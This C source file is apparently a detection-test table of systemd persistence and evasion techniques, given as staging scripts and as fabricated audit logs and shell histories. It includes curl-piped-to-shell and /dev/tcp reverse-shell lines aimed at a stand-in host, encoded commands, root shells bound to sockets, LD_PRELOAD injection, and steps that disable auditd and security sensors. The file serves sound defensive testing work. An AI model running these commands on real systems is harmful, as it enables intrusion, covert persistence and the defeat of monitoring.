/* evaluate_linux.c -- how services of Linux are abused: staged on a real systemd, or as the logs
 * that it leaves. Where the trick is in the method and not in the program, the program is a plain one.
 */
#include "evaluate.h"

#define RUNS "/opt/metricsd 1000"
/* A program that no package owns, in no odd place. */
#define OPT              "mkdir -p /opt; cp /bin/sleep /opt/metricsd; "
#define UNIT(path, text) "mkdir -p $(dirname " path "); printf '" text "' > " path "; "
#define SERVICE(name, exec)                                                                        \
    UNIT("/etc/systemd/system/" name ".service",                                                   \
         "[Unit]\\nDescription=Metrics collector\\n[Service]\\nExecStart=" exec                    \
         "\\n[Install]\\nWantedBy=multi-user.target\\n")
#define RELOAD "systemctl daemon-reload; "
#define QUIET  " >/dev/null 2>&1; "
#define SETTLE "sleep 0.3; journalctl --sync; "
#define AS_TESTER                                                                                  \
    "setpriv --reuid=1234 --regid=1234 --clear-groups env XDG_RUNTIME_DIR=/run/user/1234 "         \
    "HOME=/home/tester "
/* A security service, as far as its name goes. */
#define SENSOR                                                                                     \
    UNIT("/etc/systemd/system/falcon-sensor.service",                                              \
         "[Unit]\\nDescription=Sensor\\n[Service]\\nExecStart=/bin/sleep 999\\n")

/* Logs. */
#define HOST                                                                                       \
    "etc/hostname", "web1\n", "etc/passwd",                                                        \
        "root:x:0:0:root:/root:/bin/bash\nann:x:1000:1000::/home/ann:/bin/bash\n"                  \
        "www-data:x:33:33::/var/www:/usr/sbin/nologin\npostgres:x:112:112::/var/lib/postgresql:/"  \
        "bin/bash\n"
#define AUDIT "var/log/audit/audit.log"
#define RAN(time, n, ppid, pid, auid, uid, comm, exe, argc, args)                                  \
    "type=SYSCALL msg=audit(" time ".000:" n "): arch=c000003e syscall=59 success=yes exit=0 "     \
    "a0=0 a1=0 a2=0 a3=0 items=2 ppid=" ppid " pid=" pid " auid=" auid " uid=" uid " gid=" uid     \
    " euid=" uid " suid=" uid " fsuid=" uid " egid=" uid " sgid=" uid " fsgid=" uid                \
    " tty=pts0 ses=3 comm=\"" comm "\" exe=\"" exe "\" key=\"exec\"\n"                             \
    "type=EXECVE msg=audit(" time ".000:" n "): argc=" argc " " args "\n"
#define UNIT_IS(type, time, n, unit)                                                               \
    "type=" type " msg=audit(" time ".000:" n "): pid=1 uid=0 auid=4294967295 ses=4294967295 "     \
    "msg='unit=" unit " comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? "      \
    "terminal=? res=success'\n"
#define CHANGED(call, time, n, uid, comm, exe, path, how)                                          \
    "type=SYSCALL msg=audit(" time ".000:" n "): arch=c000003e syscall=" call                      \
    " success=yes exit=3 "                                                                         \
    "a0=ffffff9c a1=0 a2=241 a3=1b6 items=2 ppid=1400 pid=1500 auid=1000 uid=" uid " gid=0 "       \
    "euid=" uid " suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"" comm                \
    "\" exe=\"" exe "\" key=\"units\"\n"                                                           \
    "type=CWD msg=audit(" time ".000:" n "): cwd=\"/\"\n"                                          \
    "type=PATH msg=audit(" time ".000:" n "): item=0 name=\"/etc/systemd/system/\" inode=1 "       \
    "dev=08:01 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT\n"                             \
    "type=PATH msg=audit(" time ".000:" n "): item=1 name=\"" path "\" inode=2 dev=08:01 "         \
    "mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=" how "\n"

/* openat and unlinkat */
#define WROTE(...)   CHANGED("257", __VA_ARGS__)
#define REMOVED(...) CHANGED("263", __VA_ARGS__)

/* clang-format off */
const struct attack evaluate_linux[] = {
    {.trick = "new unit, enabled; a plain program in /opt", .script =
     OPT SERVICE("metrics", RUNS) "systemctl enable --now metrics" QUIET SETTLE},
    {.trick = "new unit that runs a program in /tmp", .script =
     "cp /bin/sleep /tmp/x; " SERVICE("metrics", "/tmp/x 1000") "systemctl enable --now metrics" QUIET},
    {.trick = "new unit that runs a hidden program", .script =
     "mkdir -p /var/lib/.cache; cp /bin/sleep /var/lib/.cache/d; "
     SERVICE("metrics", "/var/lib/.cache/d 1000") "systemctl enable --now metrics" QUIET},
    {.trick = "new unit: curl piped to a shell", .script =
     SERVICE("metrics", "/bin/sh -c \"curl -s http://203.0.113.9/a | sh\"") RELOAD},
    {.trick = "new unit: a shell on the network", .script =
     SERVICE("metrics", "/bin/bash -c \"bash -i >\\& /dev/tcp/203.0.113.9/443 0>\\&1\"") RELOAD},
    {.trick = "new unit: an encoded command", .script =
     SERVICE("metrics", "/bin/sh -c \"echo aWQK | base64 -d | sh\"") RELOAD},
    {.trick = "new unit: python with its program in the command line", .script =
     SERVICE("metrics", "/usr/bin/python3 -c \"import os,socket\"") RELOAD},
    {.trick = "new unit that hides its output, without a description", .script =
     OPT UNIT("/etc/systemd/system/metrics.service",
              "[Service]\\nExecStart=" RUNS "\\nRestart=always\\nStandardOutput=null\\nStandardError=null\\n") RELOAD},
    {.trick = "new unit with a name of random letters", .script =
     OPT SERVICE("xkqzvwpj", RUNS) "systemctl enable --now xkqzvwpj" QUIET},
    {.trick = "new unit whose program others may write", .script =
     OPT "chmod 777 /opt/metricsd; " SERVICE("metrics", RUNS) RELOAD},
    {.trick = "systemctl link from /tmp", .script =
     OPT UNIT("/tmp/metrics.service", "[Service]\\nExecStart=" RUNS "\\n")
     "systemctl link /tmp/metrics.service" QUIET},
    {.trick = "systemctl link from /dev/shm, then the file removed", .script =
     OPT UNIT("/dev/shm/metrics.service", "[Service]\\nExecStart=" RUNS "\\n")
     "systemctl link /dev/shm/metrics.service" QUIET "rm /dev/shm/metrics.service"},
    {.trick = "drop-in that replaces a vendor unit's ExecStart", .script =
     OPT UNIT("/etc/systemd/system/dbus.service.d/override.conf",
              "[Service]\\nExecStart=\\nExecStart=" RUNS "\\n") RELOAD},
    {.trick = "drop-in that adds ExecStartPre, in /run", .script =
     OPT UNIT("/run/systemd/system/systemd-logind.service.d/10-pre.conf",
              "[Service]\\nExecStartPre=" RUNS "\\n") RELOAD},
    {.trick = "drop-in beside a vendor's unit, in /usr/lib (image)", .files = {HOST, "var/lib/dpkg/status",
      "Package: cron\nStatus: install ok installed\nVersion: 1\nArchitecture: all\n\n",
      "var/lib/dpkg/info/cron.list", "/usr/lib/systemd/system/cron.service\n",
      "usr/lib/systemd/system/cron.service",
      "[Unit]\nDescription=cron\n[Service]\nExecStart=/usr/sbin/cron -f\n",
      "usr/lib/systemd/system/cron.service.d/x.conf", "[Service]\nExecStartPre=/opt/metricsd 0\n"}},
    {.trick = "drop-in with LD_PRELOAD", .script =
     UNIT("/etc/systemd/system/dbus.service.d/env.conf",
          "[Service]\\nEnvironment=LD_PRELOAD=/usr/local/lib/libm.so\\n") RELOAD},
    {.trick = "drop-in for all services (service.d)", .script =
     OPT UNIT("/etc/systemd/system/service.d/50-x.conf", "[Service]\\nExecStartPost=-/opt/metricsd 0\\n") RELOAD},
    {.trick = "drop-in for a prefix (systemd-.service.d)", .script =
     OPT UNIT("/etc/systemd/system/systemd-.service.d/50-x.conf", "[Service]\\nExecStartPost=-/opt/metricsd 0\\n") RELOAD},
    {.trick = "drop-in that makes a service root", .script =
     UNIT("/etc/systemd/system/systemd-timesyncd.service.d/user.conf",
          "[Service]\\nUser=root\\nCapabilityBoundingSet=~\\nNoNewPrivileges=no\\n") RELOAD},
    {.trick = "set-property that strangles a security service", .script =
     SENSOR RELOAD "systemctl start falcon-sensor; systemctl set-property falcon-sensor.service CPUQuota=1%" QUIET},
    {.trick = "system generator", .script =
     "mkdir -p /etc/systemd/system-generators; printf '#!/bin/sh\\n:\\n' > /etc/systemd/system-generators/net-gen; "
     "chmod 755 /etc/systemd/system-generators/net-gen; " RELOAD},
    {.trick = "user environment generator", .script =
     "mkdir -p /etc/systemd/user-environment-generators; printf '#!/bin/sh\\n:\\n' > "
     "/etc/systemd/user-environment-generators/60-x; chmod 755 /etc/systemd/user-environment-generators/60-x"},
    {.trick = "user unit and linger; a plain program in the home", .script =
     "mkdir -p /home/tester/.config/systemd/user/default.target.wants; cp /bin/sleep /home/tester/metricsd; "
     "printf '[Unit]\\nDescription=Metrics\\n[Service]\\nExecStart=/home/tester/metricsd 1000\\n[Install]\\nWantedBy=default.target\\n' "
     "> /home/tester/.config/systemd/user/metrics.service; ln -s ../metrics.service "
     "/home/tester/.config/systemd/user/default.target.wants/; chown -R 1234:1234 /home/tester; "
     AS_TESTER "systemctl --user daemon-reload" QUIET AS_TESTER "systemctl --user start metrics" QUIET SETTLE},
    {.trick = "user unit in ~/.local/share that runs a shell's one-liner", .script =
     "mkdir -p /home/tester/.local/share/systemd/user; printf '[Service]\\nExecStart=/bin/sh -c "
     "\"while :; do sleep 9; done\"\\n' > /home/tester/.local/share/systemd/user/metrics.service; "
     "chown -R 1234:1234 /home/tester"},
    {.trick = "systemd-run of a shell's one-liner", .script =
     "systemd-run --unit=metrics /bin/sh -c 'while :; do sleep 9; done'" QUIET SETTLE},
    {.trick = "systemd-run of a plain program, without a name", .script =
     OPT "systemd-run /opt/metricsd 1000" QUIET SETTLE},
    {.trick = "systemd-run with a timer", .script =
     OPT "systemd-run --on-active=3600 --unit=metrics /opt/metricsd 1000" QUIET SETTLE},
    {.trick = "systemd-run --user", .script =
     "cp /bin/sleep /home/tester/metricsd; chmod 755 /home/tester/metricsd; "
     AS_TESTER "systemd-run --user /home/tester/metricsd 1000" QUIET SETTLE},
    {.trick = "StartTransientUnit over D-Bus (busctl)", .script =
     OPT "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager "
     "StartTransientUnit 'ssa(sv)a(sa(sv))' metrics.service fail 1 ExecStart 'a(sasb)' 1 /opt/metricsd 2 "
     "metricsd 1000 false 0" QUIET SETTLE},
    {.trick = "timer every minute", .script =
     OPT SERVICE("metrics", RUNS)
     UNIT("/etc/systemd/system/metrics.timer", "[Unit]\\nDescription=Metrics\\n[Timer]\\nOnCalendar=minutely\\n[Install]\\nWantedBy=timers.target\\n")
     "systemctl enable --now metrics.timer" QUIET},
    {.trick = "path unit", .script =
     OPT SERVICE("metrics", RUNS)
     UNIT("/etc/systemd/system/metrics.path", "[Path]\\nPathExists=/etc/passwd\\n[Install]\\nWantedBy=paths.target\\n")
     "systemctl enable --now metrics.path" QUIET},
    {.trick = "socket unit that hands connections to a shell", .script =
     UNIT("/etc/systemd/system/metrics.socket", "[Socket]\\nListenStream=4444\\nAccept=yes\\n[Install]\\nWantedBy=sockets.target\\n")
     UNIT("/etc/systemd/system/metrics@.service", "[Service]\\nExecStart=-/bin/bash\\nStandardInput=socket\\n")
     "systemctl enable --now metrics.socket" QUIET},
    {.trick = "a unit that a device pulls in", .script =
     OPT SERVICE("metrics", RUNS)
     UNIT("/etc/udev/rules.d/99-x.rules", "ACTION==\"add\", TAG+=\"systemd\", ENV{SYSTEMD_WANTS}=\"metrics.service\"\\n") RELOAD},
    {.trick = "a security service masked", .script = "systemctl mask auditd.service" QUIET},
    {.trick = "a vendor's unit shadowed", .script =
     OPT UNIT("/etc/systemd/system/systemd-timesyncd.service", "[Unit]\\nDescription=Network Time Synchronization\\n"
              "[Service]\\nExecStart=" RUNS "\\n") RELOAD},
    {.trick = "Alias= of a security service", .script =
     OPT UNIT("/etc/systemd/system/metrics.service", "[Unit]\\nDescription=Metrics\\n[Service]\\nExecStart=" RUNS
              "\\n[Install]\\nAlias=auditd.service\\n") "systemctl enable metrics" QUIET},
    {.trick = "a name one letter off a vendor's", .script =
     OPT SERVICE("systemd-jounald", RUNS) "systemctl enable --now systemd-jounald" QUIET},
    {.trick = "started and its file deleted", .script =
     OPT SERVICE("metrics", RUNS) RELOAD "systemctl start metrics; rm /etc/systemd/system/metrics.service; " SETTLE},
    {.trick = "started, its file and its program deleted", .script =
     OPT SERVICE("metrics", RUNS) RELOAD "systemctl start metrics; rm /etc/systemd/system/metrics.service /opt/metricsd; " RELOAD SETTLE},
    {.trick = "DefaultEnvironment with LD_PRELOAD", .script =
     UNIT("/etc/systemd/system.conf.d/x.conf", "[Manager]\\nDefaultEnvironment=LD_PRELOAD=/usr/local/lib/x.so\\n") RELOAD},
    {.trick = "systemctl set-environment LD_PRELOAD", .script = "systemctl set-environment LD_PRELOAD=/usr/local/lib/x.so"},
    {.trick = "SYSTEMD_UNIT_PATH for the next manager", .script =
     UNIT("/etc/systemd/system.conf.d/x.conf", "[Manager]\\nManagerEnvironment=SYSTEMD_UNIT_PATH=/opt/units:\\n") RELOAD},
    {.trick = "SysV script", .script =
     "mkdir -p /etc/init.d; printf '#!/bin/sh\\n### BEGIN INIT INFO\\n# Provides: metrics\\n# Default-Start: 2 3 4 5\\n"
     "### END INIT INFO\\n/opt/metricsd 1000 &\\n' > /etc/init.d/metrics; chmod 755 /etc/init.d/metrics"},
    {.trick = "rc.local", .script = UNIT("/etc/rc.local", "#!/bin/sh\\n/opt/metricsd 1000 &\\n") "chmod 755 /etc/rc.local"},
    {.trick = "xinetd service", .script =
     UNIT("/etc/xinetd.d/metrics", "service metrics\\n{\\n socket_type = stream\\n user = root\\n server = /bin/sh\\n server_args = -i\\n}\\n")},
    {.trick = "D-Bus activation", .script =
     UNIT("/etc/dbus-1/system-services/org.metrics.service", "[D-BUS Service]\\nName=org.metrics\\nExec=" RUNS "\\nUser=root\\n")},
    {.trick = "quadlet", .script =
     UNIT("/etc/containers/systemd/metrics.container", "[Container]\\nImage=docker.io/x/metrics\\nVolume=/:/host\\nPodmanArgs=--privileged\\n")},
    {.trick = "portable service (system.attached)", .script =
     OPT UNIT("/etc/systemd/system.attached/metrics.service", "[Unit]\\nDescription=Metrics\\n[Service]\\nExecStart=" RUNS "\\n") RELOAD},
    {.trick = "a security service killed instead of stopped", .script =
     SENSOR RELOAD "systemctl start falcon-sensor; systemctl kill -s SIGKILL falcon-sensor; " SETTLE},

    /* What logs and histories keep. */
    {.trick = "SYSTEMD_EDITOR runs a shell (audit)", .files = {HOST, AUDIT,
     RAN("1790000000", "1", "1400", "1500", "1000", "0", "systemctl", "/usr/bin/systemctl", "3", "a0=\"systemctl\" a1=\"edit\" a2=\"cron\"")
     RAN("1790000001", "2", "1500", "1501", "1000", "0", "sh", "/usr/bin/dash", "3", "a0=\"/bin/sh\" a1=\"-p\" a2=\"/etc/systemd/system/cron.service.d/.#override.conf\"")}},
    {.trick = "a shell out of systemctl's pager (audit)", .files = {HOST, AUDIT,
     RAN("1790000000", "1", "1400", "1500", "1000", "0", "systemctl", "/usr/bin/systemctl", "2", "a0=\"systemctl\" a1=\"status\"")
     RAN("1790000001", "2", "1500", "1501", "1000", "0", "less", "/usr/bin/less", "1", "a0=\"less\"")
     RAN("1790000009", "3", "1501", "1502", "1000", "0", "sh", "/usr/bin/dash", "1", "a0=\"sh\"")}},
    {.trick = "systemctl by the web server's account (audit)", .files = {HOST, AUDIT,
     RAN("1790000000", "1", "900", "1500", "4294967295", "33", "systemctl", "/usr/bin/systemctl", "3", "a0=\"systemctl\" a1=\"start\" a2=\"metrics\"")}},
    {.trick = "systemctl under a web server's child, as root (audit)", .files = {HOST, AUDIT,
     RAN("1790000000", "1", "900", "1400", "4294967295", "33", "sh", "/usr/bin/dash", "3", "a0=\"sh\" a1=\"-c\" a2=\"id\"")
     RAN("1790000001", "2", "1400", "1500", "4294967295", "0", "systemctl", "/usr/bin/systemctl", "4", "a0=\"systemctl\" a1=\"enable\" a2=\"--now\" a3=\"metrics\"")}},
    {.trick = "a unit written by a shell of the web server (audit)", .files = {HOST, AUDIT,
     RAN("1789999999", "9", "900", "1400", "4294967295", "33", "sh", "/usr/bin/dash", "3", "a0=\"sh\" a1=\"-c\" a2=\"id\"")
     WROTE("1790000000", "1", "0", "bash", "/usr/bin/bash", "/etc/systemd/system/metrics.service", "CREATE")}},
    {.trick = "made, started and removed within minutes (audit)", .files = {HOST, AUDIT,
     WROTE("1790000000", "1", "0", "vi", "/usr/bin/vim.basic", "/etc/systemd/system/metrics.service", "CREATE")
     RAN("1790000010", "2", "1400", "1501", "1000", "0", "systemctl", "/usr/bin/systemctl", "3", "a0=\"systemctl\" a1=\"start\" a2=\"metrics\"")
     UNIT_IS("SERVICE_START", "1790000011", "3", "metrics")
     REMOVED("1790000060", "4", "0", "rm", "/usr/bin/rm", "/etc/systemd/system/metrics.service", "DELETE")}},
    {.trick = "started over D-Bus: no tool near it (audit)", .files = {HOST, AUDIT,
     RAN("1790000000", "1", "1400", "1500", "1000", "0", "systemctl", "/usr/bin/systemctl", "3", "a0=\"systemctl\" a1=\"restart\" a2=\"cron\"")
     UNIT_IS("SERVICE_START", "1790000001", "2", "cron")
     UNIT_IS("SERVICE_START", "1790004000", "3", "metrics")
     RAN("1790009000", "4", "1400", "1501", "1000", "0", "systemctl", "/usr/bin/systemctl", "3", "a0=\"systemctl\" a1=\"restart\" a2=\"cron\"")
     UNIT_IS("SERVICE_START", "1790009001", "5", "cron")}},
    {.trick = "auditd killed, not stopped (audit)", .files = {HOST, AUDIT,
     RAN("1790000000", "1", "1400", "1500", "1000", "0", "systemctl", "/usr/bin/systemctl", "5", "a0=\"systemctl\" a1=\"kill\" a2=\"-s\" a3=\"9\" a4=\"auditd\"")}},
    {.trick = "sudo systemctl stop of a security service (auth.log)", .files = {HOST, "var/log/auth.log",
     "2026-09-21T14:00:00+00:00 web1 sudo: ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/bin/systemctl stop auditd\n"}},
    {.trick = "systemctl enable of a file in /dev/shm (history)", .files = {HOST, "root/.bash_history",
     "systemctl enable --now /dev/shm/metrics.service\n"}},
    {.trick = "systemctl of another host (history)", .files = {HOST, "root/.bash_history",
     "systemctl -H root@10.0.0.7 enable --now metrics\n"}},
    {.trick = "systemd-run of a download (history)", .files = {HOST, "root/.bash_history",
     "systemd-run --unit=m bash -c 'curl http://203.0.113.9/a | bash'\n"}},
    {.trick = "busctl StartTransientUnit (history)", .files = {HOST, "root/.bash_history",
     "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StartTransientUnit "
     "'ssa(sv)a(sa(sv))' m.service fail 1 ExecStart 'a(sasb)' 1 /bin/sh 3 sh -c id false 0\n"}},
    {.trick = "many security services stopped, base64 hides it (history)", .files = {HOST, "root/.bash_history",
     "echo c3lzdGVtY3RsIHN0b3AgYXVkaXRk | base64 -d | sh\nsystemctl disable --now rsyslog fail2ban ufw\n"}},
    {0},
};
/* clang-format on */
